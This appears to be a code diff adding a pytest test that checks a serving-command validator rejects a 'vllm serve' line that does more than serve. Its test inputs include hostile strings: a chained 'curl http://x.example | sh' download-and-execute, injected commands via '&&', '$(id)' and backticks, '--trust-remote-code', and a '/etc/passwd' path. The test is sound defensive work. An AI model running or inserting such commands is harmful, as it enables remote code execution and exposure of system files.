@@ -83,6 +83,29 @@ def test_by_default_nobody_is_asked(tmp_path):
     serving.check(replace(config, export=replace(config.export, check="transformers")))
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "vllm serve Acme/Base --enable-lora --lora-modules run=.; curl http://x.example | sh",
+        "vllm serve Acme/Base --enable-lora --lora-modules run=. && id",
+        "vllm serve $(id)",
+        "vllm serve `id` --enable-lora",
+        "vllm serve Acme/Base --enable-lora --trust-remote-code --lora-modules run=.",
+        "vllm serve Acme/Base --hf-overrides x",
+        "vllm serve --enable-lora",
+        "vllm serve 'Acme/Base",
+        "vllm serve Acme/Base --chat-template /etc/passwd",
+        "vllm serve Acme/Base --lora-modules run=/theirs",
+    ],
+)
+def test_a_line_that_does_more_than_serve_is_not_shown(tmp_path, line):
+    config = tiny_config(tmp_path, "none")
+    config.run.export.mkdir(parents=True)
+    (config.run.export / "README.md").write_text(f"```bash\n{line}\n```\n")
+    with pytest.raises(ValueError, match="does not hold the line that an export writes"):
+        serving.line(config)
+
+
 def test_the_line_is_the_cards(tmp_path, capsys):
     config = tiny_config(tmp_path / "my run", "none")
     with pytest.raises(ValueError, match="run `pdtrain export CONFIG` first"):
